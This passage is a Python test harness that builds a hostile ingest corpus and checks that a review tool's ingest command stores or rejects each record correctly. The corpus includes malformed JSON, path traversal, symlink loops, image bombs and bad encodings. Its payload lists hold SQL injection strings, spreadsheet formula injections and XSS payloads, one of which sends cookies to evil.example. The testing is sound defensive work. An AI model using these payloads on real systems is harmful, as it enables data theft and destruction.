"""A hostile ingest corpus: every record an attacker or a broken exporter could send, each with the
outcome a system of record owes it, checked against the real command line.

    python bench/hostile.py [--records 300] [--full] [--database-url URL | --postgres-url ADMIN_URL] [--keep]

The corpus is generated in a temporary folder: JSONL and CSV files, image folders and zip uploads
with malformed JSON, NaN, huge numbers, deep nesting, NUL bytes, lone surrogates, bidi and
zero-width text, HTML / SQL / spreadsheet-formula payloads, escaping paths, symlink loops,
corrupt and oversized images, Big5 / Shift-JIS files, broken CSVs, absurd timestamps, duplicate
ids, and zip bombs. Each family of cases is ingested by one ``python -m review ingest`` process
(zips by ``review.ingest.ingest_upload``, as the Ingest page does), then every case is
checked:

- the run: exit status 0 (nothing rejected), 1 (some rejected) or 2 (a file refused, one
  ``error:`` line); never 3 or a traceback; every line on stderr is a ``rejected`` / ``warning``
  / ``note:`` / ``error:`` line (a file name cannot forge a log line);
- a record expected to be stored is stored once, its text byte for byte, its other fields as
  given, its images in the media store with the right bytes;
- a record expected to be rejected is absent, its location is reported with a reason, and no
  file of its images was written;
- a file expected to be refused stores nothing and is refused in one line.

Then the database itself: every table is still there, the schema is current, the integrity
check passes, exactly the expected posts exist, and a clean ingest still works.

Prints tried / passed / failed per family and the list of failures; exits 1 if any failed.
``--records`` pads the corpus with payload records (SQL, formulas, markup, bidi text, some
with images) up to that many records; ``--full`` is the issue's 1,227.
"""

from __future__ import annotations

import argparse
import codecs
import contextlib
import csv
import hashlib
import io
import json
import os
import re
import struct
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import warnings
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from PIL import Image, ImageDraw  # noqa: E402
from sqlalchemy import create_engine, func, inspect, select, text  # noqa: E402
from sqlalchemy.engine import make_url  # noqa: E402

from db import schema  # noqa: E402
from db.models import Base, Media, Post, PostMedia  # noqa: E402
from db.session import make_engine  # noqa: E402
from review.auth import OPERATOR  # noqa: E402
from review.config import Settings  # noqa: E402
from review.desk import open_desk  # noqa: E402
from review.errors import ReviewError  # noqa: E402
from review.ingest import ingest_upload  # noqa: E402

FULL_RECORDS = 1227
SOURCE = "hostile"
STORED, REJECTED, REFUSED = "stored", "rejected", "refused"
# Lines the CLI may write on stderr (with --quiet); anything else is a forged or stray line.
LINE_BREAK = re.compile(r"\r\n|\r|\n")
LOG_LINE = re.compile(r"^(rejected |warning |note: |error: |scoring with )")

# Payloads that must be stored exactly as sent (rendering and CSV writers are other checks' job).
SQL = [
    "'; DROP TABLE post; --",
    "Robert'); DROP TABLE review_event;--",
    '" OR 1=1 --',
    "1; DELETE FROM app_user WHERE 1=1",
    "%' OR '%'='",
    "$$; DROP TABLE post; $$",
    "\\'; SELECT pg_sleep(10); --",
    "x' UNION SELECT password_hash FROM app_user --",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
]
MARKUP = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "[click](javascript:alert(1)) ![x](http://evil.example/pixel.png)",
    "**bold** _it_ `code` # heading\n> quote\n- list",
    "$$\\frac{1}{0}$$ :red[red] <style>body{display:none}</style>",
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
]
UNICODE = [
    "abc\u202edlrow olleh\u202c end",  # right-to-left override
    "zero\u200bwidth\u200dj\u2060oin\ufeffer",
    "pаypal.com аpple.com",  # Cyrillic а: homoglyphs
    "Z̸̡̢̛a̵̡̛l̷̢̛g̸̡̛o̵̢̧ text",
    "👩‍👩‍👧‍👦 🏳️‍🌈 𝕳𝖊𝖑𝖑𝖔 𠀋",
    "مرحبا بالعالم שלום עולם",
    "line\r\nwindows\rmac\u2028ls\u2029ps\x85nel",
    "  leading and trailing spaces\t ",
    "\x1b[31mANSI red\x1b[0m \x07bell",
    "加微信 abc123 领取福利 血腥慎入",
]
PAYLOADS = SQL + FORMULAS + MARKUP + UNICODE


# --------------------------------------------------------------------------------------------
# Images


def picture(seed: int, size: tuple[int, int] = (40, 40), fmt: str = "PNG", mode: str = "RGB", **save: Any) -> bytes:
    """A small image with unique bytes for ``seed``."""
    img = Image.new("RGB", size, ((seed * 37) % 256, (seed * 91) % 256, (seed * 53) % 256))
    draw = ImageDraw.Draw(img)
    draw.rectangle((seed % size[0], 0, size[0] - 1, (seed // 7) % size[1]), fill=(255 - seed % 256, 40, 200))
    draw.point([(i % size[0], (i * seed) % size[1]) for i in range(20)], fill=(seed % 251, 0, 0))
    if mode != "RGB":
        img = img.convert(mode)
    out = io.BytesIO()
    img.save(out, fmt, **save)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int, height: int) -> bytes:
    """A tiny PNG that declares ``width`` × ``height`` 1-bit pixels (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\0" * (width // 8 + 1) * 64, 9)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def big_png(width: int, height: int) -> bytes:
    img = Image.new("RGB", (width, height), (12, 34, 56))
    ImageDraw.Draw(img).rectangle((width // 10, height // 10, width // 2, height // 2), fill=(200, 30, 30))
    out = io.BytesIO()
    img.save(out, "PNG")
    return out.getvalue()


def animated_gif(seed: int, frames: int = 3) -> bytes:
    shots = [Image.new("RGB", (32, 32), ((seed + i * 80) % 256, i * 60, 90)) for i in range(frames)]
    out = io.BytesIO()
    shots[0].save(out, "GIF", save_all=True, append_images=shots[1:], duration=100, loop=0)
    return out.getvalue()


def corrupt_png(seed: int) -> bytes:
    data = bytearray(picture(seed, (64, 64)))
    at = data.index(b"IDAT") + 8
    data[at : at + 16] = b"\xff" * 16
    return bytes(data)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --------------------------------------------------------------------------------------------
# The corpus


@dataclass
class Case:
    family: str
    name: str  # what is hostile about it
    location: str  # where a rejection is reported: "posts.jsonl:3", "sub/a.png"
    expect: frozenset[str]  # acceptable outcomes
    key: tuple[str, str] | None = None  # (source, external_id) when it has one
    text: str | None = None  # the text a stored record must have, exactly
    fields: dict[str, Any] = field(default_factory=dict)  # other stored values: author, meta, created_at, frames
    images: list[bytes] = field(default_factory=list)  # image bytes (stored: present; rejected: none written)
    absent: bool = True  # a rejected record's key must not exist (False: the key belongs to another record)
    loose: bool = False  # the location may be reported with a prefix (a zip member: "upload.zip/img/a.png")


@dataclass
class Family:
    name: str
    folder: Path
    args: list[str] = field(default_factory=list)
    cases: list[Case] = field(default_factory=list)
    inputs: list[str] = field(default_factory=list)  # CLI paths, relative to folder, in order
    upload: list[tuple[str, bytes]] | None = None  # ingested by ingest_upload instead of the CLI
    measure_memory: bool = False
    max_unpacked_mib: int | None = None  # an upload may write at most this much while unpacking
    _lines: dict[str, list[bytes]] = field(default_factory=dict)
    _encodings: dict[str, str] = field(default_factory=dict)

    def case(self, name: str, location: str, expect: Iterable[str] | str, **kw: Any) -> Case:
        outcomes = frozenset([expect] if isinstance(expect, str) else expect)
        c = Case(self.name, name, location, outcomes, **kw)
        self.cases.append(c)
        return c

    # JSONL ------------------------------------------------------------------------------
    def record(
        self,
        name: str,
        data: dict[str, Any] | str | bytes,
        expect: Iterable[str] | str,
        *,
        file: str = "posts.jsonl",
        encoding: str = "utf-8",
        **kw: Any,
    ) -> Case:
        """One JSONL line: a dict (encoded as JSON, escapes only where the encoding needs them) or
        a raw line. A dict's key, text and images are what a stored record is checked against."""
        lines = self._lines.setdefault(file, [])
        if file not in self._encodings:
            self._encodings[file] = encoding
            self.inputs.append(file)
        if isinstance(data, dict):
            try:
                line = _encoded(json.dumps(data, ensure_ascii=False), encoding)
            except UnicodeEncodeError:  # a lone surrogate: only its \\u escape can carry it
                line = _encoded(json.dumps(data), encoding)
            if "key" not in kw and "external_id" in data:
                kw["key"] = (str(data.get("source") or SOURCE), str(data["external_id"]).strip())
            if "text" not in kw:
                kw["text"] = data.get("text") or ""
        else:
            line = data if isinstance(data, bytes) else _encoded(data, encoding)
        if not lines:  # a byte-order mark once, at the start of the file
            line = {"utf-16": codecs.BOM_UTF16, "utf-8-sig": codecs.BOM_UTF8}.get(encoding, b"") + line
        lines.append(line)
        return self.case(name, f"{file}:{len(lines)}", expect, **kw)

    # CSV ----------------------------------------------------------------------------------
    def csv_file(
        self, file: str, header: list[str], rows: list[tuple[list[str], str, Iterable[str] | str, dict]]
    ) -> None:
        """A CSV with ``rows`` of (cells, case name, expected outcome, case keywords). The marker
        ``<BAD>`` in a cell becomes one byte that is not UTF-8."""
        out = io.StringIO()
        writer = csv.writer(out)  # \r\n line ends: then a cell holding \r or \n is quoted
        writer.writerow(header)
        for cells, name, expect, kw in rows:
            line = len(LINE_BREAK.findall(out.getvalue())) + 1  # as the reader counts: \r, \n, \r\n
            writer.writerow(cells)
            self.case(name, f"{file}:{line}", expect, **kw)
        (self.folder / file).write_bytes(out.getvalue().encode("utf-8").replace(b"<BAD>", b"\xff"))
        self.inputs.append(file)

    def image(self, rel: str, data: bytes) -> Path:
        path = self.folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def write(self) -> None:
        for file, lines in self._lines.items():
            newline = _encoded("\n", self._encodings[file])
            (self.folder / file).write_bytes(newline.join(lines) + newline)


def _encoded(line: str, encoding: str) -> bytes:
    """``line`` in ``encoding``, without a byte-order mark (Family.record puts one at the start)."""
    data = line.encode(encoding)
    return data.removeprefix(codecs.BOM_UTF16).removeprefix(codecs.BOM_UTF8)


class Corpus:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.families: list[Family] = []
        self.seed = 1000

    def family(self, name: str, **kw: Any) -> Family:
        folder = self.root / name
        folder.mkdir(parents=True)
        fam = Family(name, folder, **kw)
        self.families.append(fam)
        return fam

    def pic(self, **kw: Any) -> bytes:
        self.seed += 1
        return picture(self.seed, **kw)


def rec(ext_id: str, text: str = "", **fields: Any) -> dict[str, Any]:
    return {"external_id": ext_id, "source": SOURCE, "text": text, **fields}


def build(corpus: Corpus, records: int, bomb_mib: int) -> None:
    json_values(corpus)
    control_chars(corpus)
    payload_fields(corpus)
    identifiers(corpus)
    timestamps(corpus)
    duplicates(corpus)
    metadata(corpus)
    paths(corpus)
    paths_that_crash(corpus)
    images(corpus)
    big_image(corpus)
    folder(corpus)
    encodings(corpus)
    csv_files(corpus)
    zips(corpus, bomb_mib)
    padding(corpus, records - sum(len(f.cases) for f in corpus.families))
    for fam in corpus.families:
        fam.write()


def json_values(c: Corpus) -> None:
    f = c.family("json-values")
    f.record("malformed JSON (unclosed)", '{"external_id": "jv-1", "text": "x"', REJECTED)
    f.record("single-quoted pseudo-JSON", "{'external_id': 'jv-2'}", REJECTED)
    f.record("trailing comma", '{"external_id": "jv-3",}', REJECTED)
    f.record("JSON array, not an object", '[{"external_id": "jv-4"}]', REJECTED)
    f.record("JSON null", "null", REJECTED)
    f.record("object without external_id", "{}", REJECTED)
    f.record("NaN in metadata", '{"external_id": "jv-5", "source": "hostile", "metadata": {"x": NaN}}', REJECTED,
             key=(SOURCE, "jv-5"))  # fmt: skip
    f.record("Infinity in created_at", '{"external_id": "jv-6", "source": "hostile", "created_at": Infinity}',
             REJECTED, key=(SOURCE, "jv-6"))  # fmt: skip
    f.record("-Infinity as text", '{"external_id": "jv-7", "source": "hostile", "text": -Infinity}', REJECTED,
             key=(SOURCE, "jv-7"))  # fmt: skip
    f.record("1e400 (overflows to infinity)", '{"external_id": "jv-8", "source": "hostile", "metadata": {"n": 1e400}}',
             REJECTED, key=(SOURCE, "jv-8"))  # fmt: skip
    huge = '{"external_id": "jv-9", "source": "hostile", "metadata": {"n": ' + "9" * 5000 + "}}"
    f.record("a 5,000-digit integer", huge, REJECTED, key=(SOURCE, "jv-9"))
    f.record("a 30-digit integer (JSON allows it)", rec("jv-10", "big", metadata={"n": 10**30}), STORED,
             fields={"meta": {"n": 10**30}})  # fmt: skip
    deep = '{"external_id": "jv-11", "source": "hostile", "metadata": {"d": ' + "[" * 100_000 + "]" * 100_000 + "}}"
    f.record("nesting 100,000 deep", deep, REJECTED, key=(SOURCE, "jv-11"))
    nested: Any = "leaf"
    for _ in range(5):
        nested = {"k": [nested]}
    f.record("nesting 10 deep", rec("jv-12", "nested", metadata={"d": nested}), STORED, fields={"meta": {"d": nested}})
    f.record("text is a number", '{"external_id": "jv-13", "source": "hostile", "text": 123}', REJECTED,
             key=(SOURCE, "jv-13"))  # fmt: skip
    f.record("external_id is a float", '{"external_id": 1.5, "source": "hostile"}', REJECTED)
    f.record("metadata is a list", rec("jv-14", "m", metadata=[1, 2]), REJECTED)
    f.record("images is an object", rec("jv-15", "i", images={"a": "b"}), REJECTED)
    f.record("a line that is 17 MiB", rec("jv-16", "x" * (17 * 2**20)), REJECTED)
    f.record("text of 100,001 characters (over MAX_TEXT_CHARS)", rec("jv-17", "y" * 100_001), REJECTED)
    f.record("text of exactly 100,000 characters", rec("jv-18", "z" * 100_000), STORED)
    f.record("a valid neighbour", rec("jv-19", "still here"), STORED)


def control_chars(c: Corpus) -> None:
    f = c.family("control-chars")
    f.record("NUL in text", rec("cc-1", "before\x00after"), REJECTED)
    f.record("NUL in author", rec("cc-2", "t", author="a\x00b"), REJECTED)
    f.record("NUL in a metadata key", rec("cc-3", "t", metadata={"k\x00": 1}), REJECTED)
    f.record("NUL in a metadata value", rec("cc-4", "t", metadata={"k": "v\x00"}), REJECTED)
    f.record("lone high surrogate in text", rec("cc-5", "half \ud83d emoji"), REJECTED)
    f.record("lone low surrogate in metadata", rec("cc-6", "t", metadata={"k": "\udc00"}), REJECTED)
    f.record("ANSI escape and bell in text", rec("cc-9", "\x1b[2J\x1b[31mred\x07"), STORED)
    f.record("C1 control and DEL in text", rec("cc-10", "a\x85b\x9bc\x7fd"), STORED)
    f.record("a valid neighbour", rec("cc-11", "still here"), STORED)
    g = c.family("jsonl-bad-bytes")
    g.record("a valid line before", rec("rb-1", "before"), STORED)
    bad = [REJECTED, REFUSED]
    g.record("raw surrogate bytes (not UTF-8)", b'{"external_id": "rb-2", "text": "\xed\xa0\x80"}', bad)
    g.record("raw invalid UTF-8 byte", b'{"external_id": "rb-3", "text": "caf\xe9 au lait"}', bad)
    g.record("a valid line after", rec("rb-4", "after"), STORED)


def payload_fields(c: Corpus) -> None:
    f = c.family("payloads")
    for i, payload in enumerate(PAYLOADS):
        f.record(f"payload in text: {payload[:30]!r}", rec(f"pl-t{i}", payload), STORED)
    for i, payload in enumerate(SQL + FORMULAS + MARKUP):
        f.record(f"payload as author: {payload[:30]!r}", rec(f"pl-a{i}", "t", author=payload), STORED,
                 fields={"author": payload})  # fmt: skip
    one_line = [p for p in SQL + FORMULAS + MARKUP if not any(ch in p for ch in "\t\r\n")]
    for i, payload in enumerate(one_line):
        source = payload.strip()[:64]
        data = {"external_id": f"pl-s{i}", "source": source, "text": "t"}
        f.record(f"payload as source: {payload[:30]!r}", data, STORED, key=(source, f"pl-s{i}"))
    for payload in SQL[:4] + FORMULAS[:4]:
        f.record(f"payload as external_id: {payload[:30]!r}", rec(payload.strip(), "t"), STORED)
    f.record("payloads as metadata keys and values", rec("pl-m", "t", metadata={p: p for p in PAYLOADS}), STORED,
             fields={"meta": {p: p for p in PAYLOADS}})  # fmt: skip


def identifiers(c: Corpus) -> None:
    f = c.family("identifiers")
    f.record("zero-width space in external_id", rec("id\u200b1", "t"), REJECTED)
    f.record("right-to-left override in external_id", rec("id\u202e2", "t"), REJECTED)
    f.record("newline in external_id", rec("id\n3", "t"), REJECTED)
    f.record("external_id of 256 characters", rec("i" * 256, "t"), REJECTED)
    f.record("blank external_id", rec("   ", "t"), REJECTED)
    f.record("homoglyph id (Latin)", rec("paypal", "latin"), STORED)
    f.record("homoglyph id (Cyrillic а)", rec("pаypal", "cyrillic"), STORED)
    f.record("emoji external_id", rec("🔥🔥", "t"), STORED)
    f.record("source of 65 characters", {"external_id": "id-9", "source": "s" * 65}, REJECTED)
    f.record("zero-width in source", {"external_id": "id-10", "source": "hos\u200btile"}, REJECTED)
    f.record("author of 256 characters", rec("id-11", "t", author="a" * 256), REJECTED)
    f.record("unknown fields go to metadata", rec("id-12", "t", likes=5, tags=["a"]), STORED,
             fields={"meta": {"likes": 5, "tags": ["a"]}})  # fmt: skip


def timestamps(c: Corpus) -> None:
    f = c.family("timestamps")
    at = datetime(2023, 11, 14, 22, 13, 20, tzinfo=UTC)
    f.record("year 10000 as text", rec("ts-1", "t", created_at="10000-01-01T00:00:00Z"), REJECTED)
    f.record("year 10000 as epoch seconds", rec("ts-2", "t", created_at=253402300800), REJECTED)
    f.record("negative epoch seconds", rec("ts-3", "t", created_at=-86400), REJECTED)
    ms = rec("ts-4", "t", created_at=1700000000000)
    f.record("epoch milliseconds (the right instant, or refused as ambiguous)", ms, [STORED, REJECTED],
             fields={"created_at": at})  # fmt: skip
    f.record("epoch seconds", rec("ts-5", "t", created_at=1700000000), STORED, fields={"created_at": at})
    f.record("ISO with +08:00", rec("ts-6", "t", created_at="2023-11-15T06:13:20+08:00"), STORED,
             fields={"created_at": at})  # fmt: skip
    f.record("February 30th", rec("ts-7", "t", created_at="2024-02-30"), REJECTED)
    f.record("year 1 in +01:00 (before year 1 UTC)", rec("ts-8", "t", created_at="0001-01-01T00:00:00+01:00"), REJECTED)
    f.record("1e300 seconds", rec("ts-9", "t", created_at=1e300), REJECTED)
    f.record("a boolean", rec("ts-10", "t", created_at=True), REJECTED)
    f.record("a word", rec("ts-11", "t", created_at="yesterday"), REJECTED)


def duplicates(c: Corpus) -> None:
    f = c.family("duplicates")
    f.record("first of an id", rec("dup-1", "first version"), STORED)
    f.record("same id, different content", rec("dup-1", "second version"), REJECTED, absent=False)
    f.record("same id, same content", rec("dup-2", "same"), STORED)
    f.record("exact repeat", rec("dup-2", "same"), STORED)
    f.record("id with trailing space, different content", rec("dup-1 ", "third version"), REJECTED, absent=False)
    f.record("numeric id 12", {"external_id": 12, "source": SOURCE, "text": "number"}, STORED)
    f.record("string id '12', different content", rec("12", "string"), REJECTED, absent=False)
    f.record("same id, other source", {"external_id": "dup-1", "source": "elsewhere", "text": "other source"}, STORED)
    rows = [(["dup-1", SOURCE, "csv version"], "same id in a second file, different content", REJECTED,
             {"key": (SOURCE, "dup-1"), "absent": False})]  # fmt: skip
    f.csv_file("more.csv", ["external_id", "source", "text"], rows)


def metadata(c: Corpus) -> None:
    f = c.family("metadata")
    many = {f"k{i}": i for i in range(5000)}
    f.record("5,000 metadata keys", rec("md-1", "t", metadata=many), REJECTED)
    some = {f"k{i}": i for i in range(50)}
    f.record("50 metadata keys", rec("md-2", "t", metadata=some), STORED, fields={"meta": some})
    wide = {f"col{i}": "v" for i in range(5000)}
    f.record("5,000 unknown top-level fields", rec("md-3", "t", **wide), REJECTED)
    f.record("a 1 MB metadata value", rec("md-4", "t", metadata={"blob": "b" * 2**20}), STORED)


def paths(c: Corpus) -> None:
    f = c.family("paths")
    (c.root / "outside.png").write_bytes(c.pic())
    f.image("img/ok.png", ok := c.pic())
    f.image("img/sub/dir.png/x", b"")  # a folder named like an image
    (f.folder / "img" / "escape.png").symlink_to(c.root / "outside.png")
    f.record("'..' out of the folder", rec("pa-1", "t", images=["../outside.png"]), REJECTED)
    f.record("'..' through a subfolder", rec("pa-2", "t", images=["img/../../outside.png"]), REJECTED)
    f.record("absolute path to /etc/passwd", rec("pa-3", "t", images=["/etc/passwd"]), REJECTED)
    f.record("absolute path inside the folder", rec("pa-4", "t", images=[str(f.folder / "img/ok.png")]), REJECTED)
    f.record("symlink pointing out of the folder", rec("pa-5", "t", images=["img/escape.png"]), REJECTED)
    f.record("missing file", rec("pa-6", "t", images=["img/missing.png"]), REJECTED)
    f.record("a folder as an image", rec("pa-7", "t", images=["img/sub/dir.png"]), REJECTED)
    f.record("NUL in an image path", rec("pa-8", "t", images=["img/ok\x00.png"]), REJECTED)
    f.record("newline in an image path", rec("pa-9", "t", images=["img/ok.png\nFORGED LINE"]), REJECTED)
    f.record("a URL as an image path", rec("pa-10", "t", images=["http://evil.example/a.png"]), REJECTED)
    f.record("Windows drive path", rec("pa-11", "t", images=["C:\\Windows\\a.png"]), REJECTED)
    f.record("51 images (over 50)", rec("pa-12", "t", images=["img/ok.png"] * 51), REJECTED)
    f.record("'~/' home path (absolute once expanded)", rec("pa-13", "t", images=["~/a.png"]), REJECTED)
    f.record("a valid image next to them", rec("pa-14", "t", images=["img/ok.png"]), STORED, images=[ok])


def paths_that_crash(c: Corpus) -> None:
    """Two records that raised RuntimeError and lost their whole chunk (issue 14), between valid ones."""
    f = c.family("paths-crash")
    f.image("a.png", a := c.pic())
    (f.folder / "loop1.png").symlink_to(f.folder / "loop2.png")
    (f.folder / "loop2.png").symlink_to(f.folder / "loop1.png")
    (f.folder / "self.png").symlink_to(f.folder / "self.png")
    f.record("a valid record before", rec("pc-1", "before", images=["a.png"]), STORED, images=[a])
    f.record("'~nosuchuser/a.jpg'", rec("pc-2", "t", images=["~nosuchuser/a.jpg"]), REJECTED)
    f.record("symlink loop (a → b → a)", rec("pc-3", "t", images=["loop1.png"]), REJECTED)
    f.record("symlink to itself", rec("pc-4", "t", images=["self.png"]), REJECTED)
    f.record("a valid record after", rec("pc-5", "after"), STORED)


def images(c: Corpus) -> None:
    f = c.family("images")

    def one(name: str, data: bytes, expect: str, suffix: str = ".png", **kw: Any) -> None:
        rel = f"img/{len(f.cases)}{suffix}"
        f.image(rel, data)
        f.record(name, rec(f"im-{len(f.cases)}", name, images=[rel]), expect, images=[data], **kw)

    jpeg = c.pic(size=(64, 64), fmt="JPEG")
    png = c.pic(size=(64, 64))
    one("truncated JPEG", jpeg[: len(jpeg) // 2], REJECTED, ".jpg")
    one("truncated PNG", png[: len(png) // 2], REJECTED)
    one("corrupt PNG data", corrupt_png(c.seed), REJECTED)
    one("text file named .jpg", b"just some text, not a picture " + os.urandom(8).hex().encode(), REJECTED, ".jpg")
    one("HTML named .png", b"<html><script>alert(1)</script></html>" + os.urandom(4).hex().encode(), REJECTED)
    one("SVG named .jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', REJECTED, ".jpg")
    one("PDF named .jpg", b"%PDF-1.4\n%" + os.urandom(16), REJECTED, ".jpg")
    one("empty file .png", b"", REJECTED)
    one("bomb: PNG header 100,000 × 100,000", png_bomb(100_000, 100_000), REJECTED)
    one("bomb: PNG header 8,000 × 8,000 (64 Mpx, over 50 Mpx)", png_bomb(8000, 8000), REJECTED)
    one("animated GIF (first frame)", animated_gif(c.seed), STORED, ".gif", fields={"frames": 3})
    one("16-bit greyscale PNG", c.pic(mode="I;16"), STORED)
    one("CMYK JPEG", c.pic(fmt="JPEG", mode="CMYK"), STORED, ".jpg")
    one("palette PNG with transparency", c.pic(mode="P", transparency=0), STORED)
    one("1 × 1 PNG", c.pic(size=(1, 1)), STORED)
    one("1 × 20,000 strip", c.pic(size=(1, 20000)), STORED)
    one("PNG named .jpg (content decides)", c.pic(), STORED, ".jpg")
    good, bad = c.pic(), b"not an image " + os.urandom(8)
    f.image("img/pair-good.png", good)
    f.image("img/pair-bad.png", bad)
    f.record("a good image then a bad one (whole record rejected, no file)",
             rec("im-pair", "pair", images=["img/pair-good.png", "img/pair-bad.png"]), REJECTED,
             images=[good, bad])  # fmt: skip


def big_image(c: Corpus) -> None:
    f = c.family("big-image", measure_memory=True)
    data = big_png(7000, 7000)
    f.image("huge.png", data)
    f.record(
        "7000 × 7000 PNG (49 Mpx, under the limit)", rec("bi-1", "big", images=["huge.png"]), STORED, images=[data]
    )


def folder(c: Corpus) -> None:
    f = c.family("folder")
    pics = f.folder / "pics"
    f.inputs.append("pics")

    def img(rel: str, name: str, expect: Iterable[str] | str, data: bytes | None = None, **kw: Any) -> Path:
        data = c.pic() if data is None else data
        path = f.image(f"pics/{rel}", data)
        ext_id = rel.rsplit(".", 1)[0]
        f.case(name, rel, expect, key=(SOURCE, ext_id), images=[data], **kw)
        return path

    img("plain.png", "a plain image", STORED, text="")
    for i, payload in enumerate(SQL[:2] + FORMULAS[:2] + MARKUP[:2] + UNICODE[:3]):
        path = img(f"side{i}.png", f"sidecar .txt with {payload[:20]!r}", STORED, text=payload)
        path.with_suffix(".txt").write_bytes(payload.encode("utf-8"))
    path = img("meta.png", "sidecar .json with fields", STORED, text="from json", fields={"author": "=1+1"})
    path.with_suffix(".json").write_text(json.dumps({"text": "from json", "author": "=1+1"}), encoding="utf-8")
    path = img("badjson.png", "malformed sidecar .json", REJECTED)
    path.with_suffix(".json").write_text("{oops", encoding="utf-8")
    path = img("nan.png", "sidecar .json with NaN", REJECTED)
    path.with_suffix(".json").write_text('{"metadata": {"x": NaN}}', encoding="utf-8")
    img("fake.png", "text file named .png", REJECTED, data=b"hello " + os.urandom(8))
    img("sub/deeper/nested.png", "an image two folders down", STORED, text="")
    img("a\nFORGED LOG LINE.png", "newline in a file name", [STORED, REJECTED], text="")
    img("evil\u202egnp.exe.png", "right-to-left override in a file name", [STORED, REJECTED], text="")
    img("name with spaces 和中文.png", "spaces and Chinese in a file name", STORED, text="")
    (pics / "escape.png").symlink_to(c.root / "outside.png")
    f.case("symlink out of the folder", "escape.png", REJECTED, key=(SOURCE, "escape"))
    path = img("big5side.png", "Big5 sidecar .txt (not UTF-8)", [REJECTED, REFUSED, STORED], text="這是繁體中文")
    path.with_suffix(".txt").write_bytes("這是繁體中文".encode("big5"))
    f.args = ["--source", SOURCE]


BIG5 = ["這是繁體中文的測試貼文", "請勿轉發此訊息", "臺灣的天氣很好", "購買請聯絡我們", "恭喜發財紅包拿來"]
SJIS = [
    "これは日本語のテストです",
    "今日はいい天気ですね",
    "お問い合わせはこちら",
    "東京タワーに行きました",
    "ありがとうございます",
]


def encodings(c: Corpus) -> None:
    for enc, texts in (("big5", BIG5), ("shift_jis", SJIS)):
        guess = c.family(f"encoding-{enc}-guessed")
        given = c.family(f"encoding-{enc}-given", args=["--encoding", enc])
        for i, t in enumerate(texts):
            # Not stored as mojibake: refused (or each line rejected) unless --encoding says what it is.
            guess.record(f"{enc} text, no --encoding", rec(f"{enc}-g{i}", t), [REJECTED, REFUSED], encoding=enc)
            given.record(f"{enc} text with --encoding {enc}", rec(f"{enc}-e{i}", t), STORED, encoding=enc)
    f = c.family("encoding-bom")
    for i, t in enumerate(BIG5[:2] + SJIS[:2] + UNICODE[:3]):
        f.record("UTF-16 with BOM", rec(f"u16-{i}", t), STORED, file="utf16.jsonl", encoding="utf-16")
        f.record("UTF-8 with BOM", rec(f"u8b-{i}", t), STORED, file="utf8bom.jsonl", encoding="utf-8-sig")
    f = c.family("encoding-gb18030")
    for i, t in enumerate(["这是简体中文的测试帖子", "加微信领取福利", "今天天气很好"]):
        # GB18030 without a BOM: kept intact, or refused until --encoding names it; never mojibake
        f.record("GB18030 text, no --encoding", rec(f"gb-{i}", t), [STORED, REFUSED], encoding="gb18030")


def csv_files(c: Corpus) -> None:
    f = c.family("csv")
    header = ["external_id", "source", "text", "author", "created_at", "images", "metadata", "likes"]
    f.image("a.png", a := c.pic())
    f.image("b.png", b := c.pic())
    rows: list[tuple[list[str], str, Iterable[str] | str, dict]] = []
    for i, payload in enumerate(FORMULAS + SQL[:3] + MARKUP[:3] + UNICODE):
        check = {"key": (SOURCE, f"csv-{i}"), "text": payload, "fields": {"author": payload[:200]}}
        cells = [f"csv-{i}", SOURCE, payload, payload[:200], "", "", "", ""]
        rows.append((cells, f"CSV text/author {payload[:25]!r}", STORED, check))
    rows.append((["csv-img", SOURCE, "two images", "", "2024/05/01 12:00", "a.png;b.png", '{"k": "=1+1"}', "7"],
                 "images as a list, metadata JSON, extra column", STORED,
                 {"key": (SOURCE, "csv-img"), "text": "two images", "images": [a, b],
                  "fields": {"meta": {"k": "=1+1", "likes": "7"},
                             "created_at": datetime(2024, 5, 1, 12, tzinfo=UTC)}}))  # fmt: skip
    rows.append((["csv-short", SOURCE, "too few"], "a row with too few fields", REJECTED,
                 {"key": (SOURCE, "csv-short")}))  # fmt: skip
    rows.append((["csv-meta", SOURCE, "t", "", "", "", "{bad json", ""], "malformed metadata cell", REJECTED,
                 {"key": (SOURCE, "csv-meta")}))  # fmt: skip
    rows.append((["csv-nan", SOURCE, "t", "", "", "", '{"x": NaN}', ""], "NaN in the metadata cell", REJECTED,
                 {"key": (SOURCE, "csv-nan")}))  # fmt: skip
    rows.append((["csv-trav", SOURCE, "t", "", "", "../outside.png", "", ""], "'..' in the images cell", REJECTED,
                 {"key": (SOURCE, "csv-trav")}))  # fmt: skip
    rows.append((["csv-last", SOURCE, "the last row", "", "", "", "", ""], "a valid last row", STORED,
                 {"key": (SOURCE, "csv-last"), "text": "the last row"}))  # fmt: skip
    f.csv_file("posts.csv", header, rows)

    g = c.family("csv-bad-byte")
    rows = []
    for i in range(8):
        bad = i == 4
        cell = "caf<BAD> au lait" if bad else f"row {i} is fine"
        rows.append(([f"bb-{i}", SOURCE, cell], "the row with a byte that is not UTF-8" if bad else "a good row",
                     [REJECTED, REFUSED] if bad else STORED, {"key": (SOURCE, f"bb-{i}"), "text": cell}))  # fmt: skip
